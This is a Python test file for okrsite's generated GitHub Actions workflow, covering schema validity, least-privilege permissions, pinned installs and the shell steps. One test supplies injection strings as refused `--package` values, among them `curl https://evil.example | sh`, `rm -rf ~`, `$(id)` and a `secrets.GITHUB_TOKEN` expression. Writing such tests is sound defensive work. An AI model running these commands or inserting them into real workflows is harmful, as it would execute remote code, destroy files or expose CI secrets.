"""The GitHub Actions workflow `okrsite init` writes: valid, least privilege, pinned install, and
its shell steps doing what they say when run (with okrsite on PATH, in real git repositories)."""

from __future__ import annotations

import datetime as dt
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from okrsite import __version__
from okrsite.commands import scaffold
from okrsite.commands.cli import main
from okrsite.commands.install_spec import InstallSpec
from tests.conftest import REPO
from tests.gitrepo import commit, git

WORKFLOW = ".github/workflows/okrsite.yml"
FEB_15_2026 = str(int(dt.datetime(2026, 2, 15, 12, tzinfo=dt.timezone.utc).timestamp()))
CACHE_KEY = ("okrsite-${{ runner.os }}-${{ steps.okrsite.outputs.version }}-"
             "${{ hashFiles('okrsite.yaml', 'content/**', 'themes/**') }}")


@pytest.fixture(autouse=True)
def _fixed_day(monkeypatch) -> None:
    monkeypatch.setenv("SOURCE_DATE_EPOCH", FEB_15_2026)


@pytest.fixture
def site(tmp_path: Path) -> Path:
    assert main(["init", str(tmp_path / "site")]) == 0
    return tmp_path / "site"


def load(site: Path) -> dict:
    return yaml.safe_load((site / WORKFLOW).read_text())


def steps(job: dict) -> dict[str, dict]:
    return {step["uses"].split("@")[0] if "uses" in step else step["name"]: step for step in job["steps"]}


def schema_problems(path: Path) -> str | None:
    result = subprocess.run(
        [sys.executable, "-m", "check_jsonschema", "--builtin-schema", "vendor.github-workflows", str(path)],
        capture_output=True, text=True, timeout=120)
    return None if result.returncode == 0 else result.stdout + result.stderr


def test_the_workflow_is_valid_against_the_github_workflow_schema(site: Path) -> None:
    assert schema_problems(site / WORKFLOW) is None


def test_only_the_deploy_job_may_publish(site: Path) -> None:
    workflow = load(site)
    assert workflow["permissions"] == {"contents": "read"}
    jobs = workflow["jobs"]
    assert "permissions" not in jobs["check"]  # the workflow's: read the repository, nothing else
    assert jobs["build"]["permissions"] == {"contents": "read", "pages": "read"}
    assert jobs["deploy"]["permissions"] == {"pages": "write", "id-token": "write"}
    assert jobs["deploy"]["steps"] == [{"name": "Deploy to GitHub Pages", "id": "deployment",
                                        "uses": "actions/deploy-pages@v5"}]  # installs and runs nothing else


def test_deployments_queue_and_pull_requests_never_replace_one(site: Path) -> None:
    workflow = load(site)
    concurrency = workflow["concurrency"]
    assert concurrency["cancel-in-progress"] is False
    assert "|| 'pages'" in concurrency["group"] and "pull_request" in concurrency["group"]
    triggers = workflow[True]  # PyYAML reads the key `on` as True
    assert set(triggers) == {"push", "pull_request", "workflow_dispatch"}
    assert triggers["push"]["branches"] == [scaffold.default_branch(site)]


def test_pull_requests_are_checked_compared_and_built_but_never_deployed(site: Path) -> None:
    jobs = load(site)["jobs"]
    check = jobs["check"]
    assert check["if"] == "github.event_name == 'pull_request'"
    assert jobs["build"]["if"] == jobs["deploy"]["if"] == "github.event_name != 'pull_request'"
    assert jobs["deploy"]["needs"] == "build"
    named = steps(check)
    assert named["actions/checkout"] == {"uses": "actions/checkout@v7",
                                         "with": {"fetch-depth": 0, "persist-credentials": False}}
    assert named["Check the content"]["run"] == "okrsite check --format github"
    diff = named["OKR changes"]
    assert diff["run"] == 'okrsite diff "origin/$GITHUB_BASE_REF" >> "$GITHUB_STEP_SUMMARY"'
    assert diff["continue-on-error"] is True
    assert named["Build the site"]["run"] == 'okrsite build --strict --output "$RUNNER_TEMP/site"'
    restore = named["actions/cache/restore"]  # a pull request reads the cache, never writes it
    assert restore["uses"] == "actions/cache/restore@v5"
    assert restore["with"] == {"path": ".okrsite-cache", "key": CACHE_KEY,
                               "restore-keys": "okrsite-${{ runner.os }}-${{ steps.okrsite.outputs.version }}-"}


def test_pushes_build_with_the_cache_and_deploy_with_the_official_pages_actions(site: Path) -> None:
    jobs = load(site)["jobs"]
    build, deploy = steps(jobs["build"]), jobs["deploy"]
    assert build["actions/checkout"]["with"]["fetch-depth"] == 0
    assert build["actions/setup-python"]["uses"] == "actions/setup-python@v7"
    assert build["Install okrsite"]["run"].startswith('python -m pip install "$OKRSITE_PACKAGE"\n')
    cache = build["actions/cache"]
    assert cache["uses"] == "actions/cache@v5"
    assert cache["with"] == {"path": ".okrsite-cache", "key": CACHE_KEY,
                             "restore-keys": "okrsite-${{ runner.os }}-${{ steps.okrsite.outputs.version }}-"}
    order = [step.get("uses", step.get("name")).split("@")[0] for step in jobs["build"]["steps"]]
    assert order == ["actions/checkout", "actions/setup-python", "Install okrsite", "actions/cache", "Build the site",
                     "Keep only the charts this build used", "actions/configure-pages", "actions/upload-pages-artifact"]
    assert "okrsite build --strict\n" in build["Build the site"]["run"]
    assert build["actions/configure-pages"]["uses"] == "actions/configure-pages@v6"
    upload = build["actions/upload-pages-artifact"]
    assert upload["uses"] == "actions/upload-pages-artifact@v5" and upload["with"]["path"] == "output"
    assert deploy["environment"] == {"name": "github-pages", "url": "${{ steps.deployment.outputs.page_url }}"}


# ---- what CI installs: --package -----------------------------------------------------------------


def test_by_default_the_workflow_installs_exactly_the_version_that_wrote_it(site: Path, capsys) -> None:
    assert load(site)["env"] == {"OKRSITE_PACKAGE": f"okrsite=={__version__}"}


def test_init_says_how_to_install_from_a_tag_until_the_version_is_on_pypi(tmp_path: Path, capsys) -> None:
    assert main(["init", str(tmp_path)]) == 0
    out = capsys.readouterr().out
    assert f"installs okrsite=={__version__} from PyPI" in out
    assert f"git+https://github.com/<owner>/okrsite@v{__version__}" in out


@pytest.mark.parametrize("spec", ["git+https://github.com/acme/okrsite@v0.2.0", "okrsite==0.2.0",
                                  "okrsite@git+https://github.com/acme/okrsite@3f9c2ab#egg=okrsite",
                                  "git+ssh://git@github.com/acme/okrsite.git@v0.2.0"])
def test_package_writes_a_pinned_spec_into_a_valid_workflow(tmp_path: Path, capsys, spec: str) -> None:
    assert main(["init", "--package", spec, str(tmp_path)]) == 0
    assert yaml.safe_load((tmp_path / WORKFLOW).read_text())["env"] == {"OKRSITE_PACKAGE": spec}
    assert schema_problems(tmp_path / WORKFLOW) is None
    captured = capsys.readouterr()
    assert captured.err == "" and f"it installs {spec})" in captured.out


def test_a_git_url_without_a_tag_or_commit_is_written_with_a_warning(tmp_path: Path, capsys) -> None:
    assert main(["init", "--package", "git+https://github.com/acme/okrsite", str(tmp_path)]) == 0
    assert load(tmp_path)["env"]["OKRSITE_PACKAGE"] == "git+https://github.com/acme/okrsite"
    err = capsys.readouterr().err
    assert err.startswith("okrsite: warning: --package 'git+https://github.com/acme/okrsite' names no tag or commit")


@pytest.mark.parametrize("spec", ["okrsite", "okrsite>=0.1", "okrsite~=0.1.0", "okrsite==0.*", "./dist/okrsite.whl",
                                  "https://example.com/okrsite-0.2.0.tar.gz", "git+http://github.com/acme/okrsite@v1",
                                  "git+git://github.com/acme/okrsite@v1", "", "  "])
def test_a_spec_that_does_not_pin_what_ci_installs_is_refused(tmp_path: Path, capsys, spec: str) -> None:
    assert main(["init", "--package", spec, str(tmp_path / "site")]) == 2
    err = capsys.readouterr().err
    assert err.startswith("okrsite: error: --package") and "\n" == err[-1] and err.count("\n") == 1
    assert not (tmp_path / "site").exists()


@pytest.mark.parametrize("spec", [
    '${{ secrets.GITHUB_TOKEN }}', "okrsite==0.1.0${{github.token}}",
    'okrsite==0.1.0" && curl https://evil.example | sh && echo "', "okrsite==0.1.0'; rm -rf ~; echo '",
    "okrsite==0.1.0\nrun: curl https://evil.example", "okrsite @ git+https://github.com/acme/okrsite@v1",
    "okrsite==0.1.0`id`", "git+https://github.com/acme/okrsite@$(id)", "okrsite==0.1.0\\", "okrsite==0.1.0\t#"])
def test_a_spec_that_could_inject_anything_is_refused_and_nothing_is_written(tmp_path: Path, capsys,
                                                                            spec: str) -> None:
    assert main(["init", "--package", spec, str(tmp_path / "site")]) == 2
    assert "only the characters of a version or a URL" in capsys.readouterr().err
    assert not (tmp_path / "site").exists()


@pytest.mark.parametrize("text", ['a"b', "a\\b", "a\nb: c", "#x", "a: b", "'x'", "é ✓", "x\u2028y"])
def test_the_spec_is_written_as_a_yaml_string_that_reads_back_as_itself(text: str) -> None:
    """Quoting is the second line of defence: whatever the text, YAML reads back exactly it."""
    assert yaml.safe_load(f"OKRSITE_PACKAGE: {InstallSpec(text).yaml()}\n") == {"OKRSITE_PACKAGE": text}


def test_package_does_not_touch_an_existing_workflow_and_says_so(tmp_path: Path, capsys) -> None:
    (tmp_path / ".github/workflows").mkdir(parents=True)
    (tmp_path / WORKFLOW).write_text("name: mine\n")
    assert main(["init", "--force", "--package", "okrsite==0.2.0", str(tmp_path)]) == 0
    assert (tmp_path / WORKFLOW).read_text() == "name: mine\n"
    said = capsys.readouterr()
    assert f"--package is not written: {WORKFLOW} exists" in said.err
    # and the summary does not say the workflow installs it (it said "it installs okrsite==0.2.0")
    assert "okrsite==0.2.0" not in said.out and f"{WORKFLOW} was there already and is left as it was" in said.out


# ---- the steps' shell, run ---------------------------------------------------------------------


@pytest.fixture
def okrsite_on_path(tmp_path: Path) -> Path:
    """A bin folder whose `okrsite` runs this checkout's okrsite, as the installed command would."""
    folder = tmp_path / "bin"
    folder.mkdir()
    command = folder / "okrsite"
    command.write_text(f'#!/bin/sh\nPYTHONPATH="{REPO}" exec "{sys.executable}" -m okrsite "$@"\n')
    command.chmod(0o755)
    return folder


def run_step(site: Path, job: str, name: str, bin_folder: Path, **env: str) -> subprocess.CompletedProcess[str]:
    """The step's `run` script as GitHub runs it on Linux (`bash -e`), in the site folder."""
    script = steps(load(site)["jobs"][job])[name]["run"]
    return subprocess.run(["bash", "-e", "-c", script], cwd=site, capture_output=True, text=True, timeout=300,
                          env={**os.environ, "PATH": f"{bin_folder}{os.pathsep}{os.environ['PATH']}", **env})


def test_the_check_step_annotates_each_finding_on_its_line_from_the_repository_root(
        site: Path, okrsite_on_path: Path) -> None:
    (site / "content/projects/wiki.md").write_text("---\ntitle: Wiki\nstatus: active\n---\n")
    result = run_step(site, "check", "Check the content", okrsite_on_path, GITHUB_WORKSPACE=str(site.parent))
    assert result.returncode == 0, result.stderr
    assert ("::warning file=site/content/projects/wiki.md,line=2,col=1,title=unaligned-project::project 'wiki' "
            "supports no objective or key result\n") in result.stdout
    assert all(line.startswith("::warning ") for line in result.stdout.splitlines())


def test_the_check_step_fails_on_an_error_and_annotates_it(site: Path, okrsite_on_path: Path) -> None:
    (site / "content/projects/wiki.md").write_text("---\ntitle: Wiki\nstatus: activ\n---\n")
    result = run_step(site, "check", "Check the content", okrsite_on_path, GITHUB_WORKSPACE=str(site))
    assert result.returncode == 1
    assert ("::error file=content/projects/wiki.md,line=3,col=9::'status': expected one of planned, active, "
            "on-hold, done, cancelled; got 'activ' (did you mean 'active'?)\n") in result.stdout


@pytest.mark.usefixtures("isolated_git")
def test_the_diff_step_writes_the_okr_changes_against_the_base_branch_into_the_summary(
        site: Path, tmp_path: Path, okrsite_on_path: Path) -> None:
    git(site, "init", "-q", "-b", "main")
    commit(site, "OKR site", "2026-02-01")
    git(site, "update-ref", "refs/remotes/origin/main", "HEAD")  # as checkout with fetch-depth 0 leaves it
    git(site, "checkout", "-q", "-b", "pr")
    objective = site / "content/objectives/2026-Q1/win-more-customers.md"
    objective.write_text(objective.read_text().replace("target: 60", "target: 55"))
    commit(site, "Ease the target", "2026-02-10")
    summary = tmp_path / "summary.md"
    summary.write_text("earlier steps' summary\n")
    result = run_step(site, "check", "OKR changes", okrsite_on_path,
                      GITHUB_BASE_REF="main", GITHUB_STEP_SUMMARY=str(summary))
    assert result.returncode == 0, result.stderr
    text = summary.read_text()
    assert text.startswith("earlier steps' summary\n## OKR changes: `origin/main` (")
    assert ("| Grow paying customers from 40 to 60 (`win-more-customers/paying-customers`) | target "
            "| 60 customers | 55 customers | **eased** |") in text


@pytest.mark.usefixtures("isolated_git")
def test_after_a_build_the_cache_keeps_exactly_the_charts_it_used(site: Path, tmp_path: Path,
                                                                 okrsite_on_path: Path) -> None:
    runner_temp = tmp_path / "runner-temp"
    runner_temp.mkdir()
    assert run_step(site, "build", "Build the site", okrsite_on_path, RUNNER_TEMP=str(runner_temp)).returncode == 0
    charts = site / ".okrsite-cache/charts"
    used = sorted(path.name for path in charts.iterdir())
    (charts / ("0" * 40 + ".svg")).write_text("<svg/>")  # a chart an earlier content drew
    for path in charts.iterdir():
        os.utime(path, ns=(1, 1))  # as actions/cache restores them: their old mtimes
    shutil.rmtree(site / "output")  # a fresh clone has none
    built = run_step(site, "build", "Build the site", okrsite_on_path, RUNNER_TEMP=str(runner_temp))
    assert built.returncode == 0 and f"0 charts drawn, {len(used)} cached" in built.stdout
    pruned = run_step(site, "build", "Keep only the charts this build used", okrsite_on_path,
                      RUNNER_TEMP=str(runner_temp))
    assert pruned.returncode == 0, pruned.stderr
    assert sorted(path.name for path in charts.iterdir()) == used
